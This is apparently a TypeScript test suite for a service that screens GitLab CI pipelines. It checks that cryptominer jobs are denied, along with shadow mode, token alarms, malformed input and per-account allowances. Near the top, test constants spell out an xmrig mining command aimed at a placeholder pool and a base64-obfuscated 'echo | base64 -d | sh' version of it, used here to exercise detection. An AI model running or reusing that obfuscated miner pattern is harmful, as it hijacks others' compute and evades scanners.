/** GitLab asks before a pipeline: refused with its reasons, admitted, and both in shadow. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { testAddress } from '../src/scanner/wallet/test-addresses.ts';
import {
  call,
  GITLAB_SECRET,
  gitlabBody,
  type RunningServer,
  startServer,
  temporaryDirectory,
  validate,
} from './server-process.ts';

const WALLET = testAddress('monero', 1);
const MINE = `./xmrig -o stratum+tcp://pool.example.org:3333 -u ${WALLET} -p x --donate-level 1`;
const HIDDEN = `echo ${Buffer.from(MINE).toString('base64')} | base64 -d | sh`;
const ORDINARY = ['npm ci', 'npm test'];

interface Shown {
  readonly action: string;
  readonly liveAction: string;
  readonly mode: string;
  readonly reasons: string[];
  readonly rules: { id: string; reason: string }[];
  readonly shadow: { id: string; action: string }[];
  readonly findings: {
    rule: string;
    position: string;
    evidence: string;
    decoded: string[];
    location: { path: string; line: number };
  }[];
}

async function show(server: RunningServer, decision: string): Promise<Shown> {
  const { status, body } = await call(server, `/v1/decisions/${decision}`);
  assert.equal(status, 200);
  return body as unknown as Shown;
}

test('a miner is refused with rule, reason, place and decoded evidence', async (t) => {
  const server = await startServer(temporaryDirectory(t));
  t.after(() => server.end('SIGKILL'));

  const plain = await validate(server, gitlabBody(['apt-get update', MINE]));
  assert.equal(plain.status, 406);
  const hidden = await validate(server, gitlabBody(['make', HIDDEN]));
  assert.equal(hidden.status, 406);
  const ordinary = await validate(server, gitlabBody(ORDINARY));
  assert.equal(ordinary.status, 200);

  const refused = await show(server, hidden.decision);
  assert.equal(refused.action, 'deny');
  assert.equal(refused.rules[0]?.id, 'miner-confirmed');
  assert.match(refused.reasons[0] ?? '', /miner/);
  const finding = refused.findings.find((f) => f.evidence.includes('pool.example.org'));
  assert.ok(finding, JSON.stringify(refused.findings));
  assert.equal(finding.location.path, 'builds/test');
  assert.equal(finding.location.line, 2);
  assert.equal(finding.position, 'executed');
  assert.ok(finding.decoded.some((layer) => layer.includes(WALLET)));

  const admitted = await show(server, ordinary.decision);
  assert.equal(admitted.action, 'allow');
  assert.deepEqual(admitted.findings, []);
});

test('in shadow both are admitted, and the record says what would have happened', async (t) => {
  const server = await startServer(temporaryDirectory(t), ['--shadow']);
  t.after(() => server.end('SIGKILL'));

  const mining = await validate(server, gitlabBody([MINE]));
  const ordinary = await validate(server, gitlabBody(ORDINARY));
  assert.deepEqual([mining.status, ordinary.status], [200, 200]);

  const record = await show(server, mining.decision);
  assert.equal(record.mode, 'shadow');
  assert.equal(record.action, 'allow');
  assert.equal(record.liveAction, 'deny');
  assert.equal(record.shadow[0]?.id, 'miner-confirmed');
  assert.equal((await show(server, ordinary.decision)).liveAction, 'allow');
});

test('a wrong token is a 401, an alarm and a log line; nothing else is', async (t) => {
  const server = await startServer(temporaryDirectory(t));
  t.after(() => server.end('SIGKILL'));

  const counted = async (count: number): Promise<void> => {
    const metrics = await (await fetch(new URL('/metrics', server.url))).text();
    const line = `davylamp_wrong_credentials_total{surface="gitlab"} ${count}`;
    assert.ok(metrics.split('\n').includes(line), line);
  };
  // A counter that begins with its first alarm would hide it from a rate.
  await counted(0);
  assert.equal((await validate(server, gitlabBody(ORDINARY), 'wrong')).status, 401);
  await server.says('GitLab admits');
  await counted(1);
});

test('an authenticated call is answered 200 or 406 whatever the body is', async (t) => {
  const server = await startServer(temporaryDirectory(t));
  t.after(() => server.end('SIGKILL'));
  const valid = gitlabBody(ORDINARY);
  const bodies: readonly (string | Uint8Array)[] = [
    '',
    'null',
    '[]',
    valid.slice(0, valid.length / 2),
    Uint8Array.of(0xff, 0xfe, 0x7b, 0x7d),
    `{"builds": ${'['.repeat(5_000)}${']'.repeat(5_000)}}`,
    valid.replace('{', '{"user": {"id": 1}, '),
    JSON.stringify({ builds: 7, user: [], pipeline: null, project: 'x' }),
  ];
  for (const body of bodies) {
    const { status, decision, elapsedMs } = await validate(server, body);
    assert.ok(status === 200 || status === 406, `${status} for ${body.slice(0, 40)}`);
    assert.ok(elapsedMs < 800, `${elapsedMs} ms`);
    await show(server, decision);
  }
  const huge = await validate(server, gitlabBody(['x'.repeat(9 * 1024 * 1024)]));
  assert.equal(huge.status, 406, 'what is too large to read is held');
  assert.match(JSON.stringify(await show(server, huge.decision)), /too-large/);
});

test('a new account has a day of ordinary pipelines, and then waits for their ends', async (t) => {
  const server = await startServer(temporaryDirectory(t));
  t.after(() => server.end('SIGKILL'));
  const createdAt = new Date(Date.now() - 60_000).toISOString();
  const push = async (n: number): Promise<{ status: number; decision: string }> => {
    const body = JSON.parse(gitlabBody([`make ${n}`], 99));
    body.user.created_at = createdAt;
    body.pipeline.sha = `${n}`.padStart(40, '0');
    const [build] = body.builds;
    body.builds = ['lint', 'build', 'test', 'deploy'].map((name) => ({ ...build, name }));
    return validate(server, JSON.stringify(body));
  };
  for (let n = 0; n < 15; n++) assert.equal((await push(n)).status, 200, `pipeline ${n}`);
  const refused = await push(15);
  assert.equal(refused.status, 406);
  const shown = await show(server, refused.decision);
  assert.deepEqual(
    shown.rules.map(({ id }) => id),
    ['allowance-spent'],
  );

  // Its jobs took half a minute each.
  const ends = Array.from({ length: 15 * 4 }, (_, i) => ({
    specversion: '1.0',
    source: 'https://gitlab.example.com',
    id: `build-${i}`,
    type: 'job.finished',
    subject: `gitlab/99/11-${`${i >> 2}`.padStart(40, '0')}`,
    time: new Date().toISOString(),
    data: { vcpuSeconds: 30, status: 'success' },
  }));
  for (const body of ends) assert.equal((await call(server, '/v1/events', { body })).status, 202);
  const { body } = await call(server, '/v1/accounts/gitlab/99/allowance');
  assert.equal(body['used'], 15 * 4 * 30);
  for (let n = 16; n < 16 + 7; n++) assert.equal((await push(n)).status, 200, `pipeline ${n}`);
});

test('two instances that count their users from 1 have accounts of their own', async (t) => {
  const secret = 'e2e-secret-of-the-other-instance';
  const environment = { DAVYLAMP_GITLAB_EU_SECRET: secret };
  const server = await startServer(temporaryDirectory(t), [], environment);
  t.after(() => server.end('SIGKILL'));
  const askOther = (token: string): Promise<Response> =>
    fetch(new URL('/providers/gitlab-eu/validate', server.url), {
      method: 'POST',
      headers: { 'x-gitlab-token': token },
      body: gitlabBody(ORDINARY),
    });
  const here = await validate(server, gitlabBody(ORDINARY));
  const there = await askOther(secret);
  assert.deepEqual([here.status, there.status], [200, 200]);
  const ids = [here.decision, there.headers.get('x-davylamp-decision') ?? ''];
  const shown = await Promise.all(ids.map((id) => call(server, `/v1/decisions/${id}`)));
  const accounts = shown.map(({ body }) => String(body['subject']).split('/', 2).join('/'));
  assert.deepEqual(accounts, ['gitlab/7', 'gitlab-eu/7']);
  assert.equal((await askOther(GITLAB_SECRET)).status, 401, 'nor does one know the secret');
});
